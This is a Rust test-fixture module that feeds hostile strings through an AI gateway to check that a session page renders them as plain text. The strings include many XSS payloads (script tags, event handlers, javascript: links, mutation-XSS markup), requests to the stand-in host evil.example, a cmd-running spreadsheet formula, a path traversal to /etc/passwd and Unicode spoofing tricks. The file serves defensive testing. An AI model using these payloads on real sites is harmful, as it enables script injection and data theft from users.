//! Texts that would do something if a page took them for anything but text.
//!
//! Each goes through the gateway as prompt, system prompt, tool name, arguments, result, answer, error, head line and model
//! name. A script that runs sets `window.pwned` or asks `evil.example` for something: both are watched.

use base64::{Engine as _, engine::general_purpose::STANDARD};
use serde_json::json;

/// One text, and what a page shows of it.
#[derive(Clone, Debug)]
pub struct Sample {
    pub name: String,
    /// As it stands between the quotes of a JSON string: some are no Unicode.
    pub json: Vec<u8>,
    /// The same as text, where it is one.
    pub text: String,
    /// What must be readable on the session's page; nothing where the body can't be read as a conversation.
    pub shows: String,
    /// One more block of the prompt, as JSON.
    pub block: Option<String>,
}

impl Sample {
    fn new(name: &str, text: &str, shows: &str) -> Self {
        let json = serde_json::to_string(text).unwrap();
        Self {
            name: name.to_owned(),
            json: json.as_bytes()[1..json.len() - 1].to_vec(),
            text: text.to_owned(),
            shows: shows.to_owned(),
            block: None,
        }
    }

    fn raw(name: &str, json: &[u8], shows: &str) -> Self {
        Self {
            json: json.to_vec(),
            ..Self::new(name, "plain beside it", shows)
        }
    }

    fn block(name: &str, block: String, shows: &str) -> Self {
        Self {
            block: Some(block),
            ..Self::new(name, "plain beside it", shows)
        }
    }

    /// What of it can stand in a head line.
    pub fn line(&self) -> String {
        let printable = self.text.chars().filter(|c| matches!(c, ' '..='~'));
        printable.take(180).collect::<String>().trim().to_owned()
    }
}

/// Texts that are shown as they are.
const AS_THEY_ARE: &[(&str, &str)] = &[
    ("markup", "<b>bold</b><h1>big</h1>"),
    ("script", "<script>window.pwned=1</script>"),
    (
        "script from elsewhere",
        "<script src=http://evil.example/x.js></script>",
    ),
    ("image that fails", "<img src=x onerror=\"window.pwned=1\">"),
    (
        "image from elsewhere",
        "<img src=http://evil.example/pixel.png>",
    ),
    (
        "svg with a handler",
        "<svg onload=window.pwned=1><circle r=9></svg>",
    ),
    (
        "svg with a script",
        "<svg><script>window.pwned=1</script></svg>",
    ),
    (
        "link with a script",
        "<a href=\"javascript:window.pwned=1\" autofocus>open</a>",
    ),
    (
        "frame with a document",
        "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
    ),
    (
        "frame from elsewhere",
        "<iframe src=http://evil.example/frame></iframe>",
    ),
    (
        "object and embed",
        "<object data=http://evil.example/o></object><embed src=http://evil.example/e>",
    ),
    (
        "form to elsewhere",
        "<form action=http://evil.example/take><input name=q autofocus onfocus=window.pwned=1><button>Go",
    ),
    (
        "style for everything",
        "<style>*{display:none!important}body{background:url(http://evil.example/s)}</style>",
    ),
    (
        "style over everything",
        "<div style=\"position:fixed;inset:0;z-index:99999;background:red\">login here</div>",
    ),
    (
        "stylesheet from elsewhere",
        "<link rel=stylesheet href=http://evil.example/x.css>",
    ),
    (
        "refresh",
        "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
    ),
    ("base", "<base href=http://evil.example/><a href=x>x</a>"),
    (
        "closing all",
        "</pre></div></details></section></main></body></html><h1>after the end</h1>",
    ),
    (
        "comment",
        "<!-- <script>window.pwned=1</script> --!> --> <!--",
    ),
    (
        "character data",
        "<![CDATA[ <script>window.pwned=1</script> ]]>",
    ),
    (
        "double quotes",
        "\" onmouseover=\"window.pwned=1\" autofocus onfocus=\"window.pwned=1\" x=\"",
    ),
    (
        "single quotes",
        "' onmouseover='window.pwned=1' autofocus onfocus='window.pwned=1' x='",
    ),
    (
        "details with a handler",
        "<details open ontoggle=window.pwned=1><summary>s</summary></details>",
    ),
    (
        "animation with a handler",
        "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s></svg>",
    ),
    (
        "templates",
        "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} <%= 7*7 %> #{7*7} {% raw %}",
    ),
    (
        "markdown",
        "![x](http://evil.example/track.png) [x](javascript:window.pwned=1) <http://evil.example/> `</code>`",
    ),
    (
        "data address",
        "data:text/html,<script>window.pwned=1</script>",
    ),
    (
        "entities",
        "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62; &amp;amp;",
    ),
    (
        "markup that changes when parsed",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.pwned=1&gt;\">",
    ),
    (
        "title and plain text",
        "</title></textarea></noscript></xmp><plaintext><script>window.pwned=1</script>",
    ),
    ("unfinished", "<img src='http://evil.example/?leak="),
    ("utf-7", "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-"),
    ("formula", "=cmd|' /C calc'!A0"),
    ("file name", "../../../etc/passwd\"; filename=\"evil.html"),
    ("right to left", "مرحبا <b>שלום</b> hello"),
];

/// All of them.
pub fn samples() -> Vec<Sample> {
    let mut all: Vec<Sample> = AS_THEY_ARE
        .iter()
        .map(|(name, text)| Sample::new(name, text, text))
        .collect();
    let word = "wordwithoutanend".repeat(2_000);
    let marks = format!("Z{}algo", "\u{0301}\u{0323}\u{0489}".repeat(300));
    all.extend([
        Sample::new(
            "direction",
            "invoice \u{202e}gpj.exe\u{2066} end",
            "invoice ‹U+202E›gpj.exe‹U+2066› end",
        ),
        Sample::new("nothing to see", "pay\u{200b}pal\u{2060}\u{feff}", "pay‹U+200B›pal‹U+2060›‹U+FEFF›"),
        Sample::new("nul", "a\u{0}b\u{7}c\u{7f}d", "a‹U+0000›b‹U+0007›c‹U+007F›d"),
        Sample::new(
            "terminal",
            "\u{1b}[31mred\u{1b}[2J\u{1b}]0;title\u{7}",
            "‹U+001B›[31mred‹U+001B›[2J",
        ),
        Sample::new("line ends", "one\u{2028}two\u{2029}three\r\nfour", "one‹U+2028›two‹U+2029›three"),
        Sample::new("events", "one\n\ndata: <script>window.pwned=1</script>\nevent: part\n\n", "data: <script>"),
        Sample::new("a word", &word, &word[..4_000]),
        Sample::new("marks upon marks", &marks, "algo"),
        Sample::raw("half a character", b"a\\ud800b <script>window.pwned=1</script>", ""),
        Sample::raw("no characters", b"a\xff\xfe\xc0\xafb <script>window.pwned=1</script>", ""),
        Sample::block(
            "depth",
            format!(
                "{{\"type\":\"tool_result\",\"tool_use_id\":\"deep\",\"content\":{}{}}}",
                "[".repeat(3_000),
                "]".repeat(3_000)
            ),
            "",
        ),
        Sample::block("a drawing", picture("image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=1'><script>window.pwned=1</script></svg>"), "image/svg+xml"),
        Sample::block("a document as a picture", picture("text/html", b"<script>window.pwned=1</script>"), "text/html"),
        Sample::block("a picture that is none", picture("image/png", b"<script>window.pwned=1</script>"), "plain beside it"),
    ]);
    all
}

fn picture(kind: &str, bytes: &[u8]) -> String {
    let data = STANDARD.encode(bytes);
    json!({"type": "image", "source": {"type": "base64", "media_type": kind, "data": data}})
        .to_string()
}
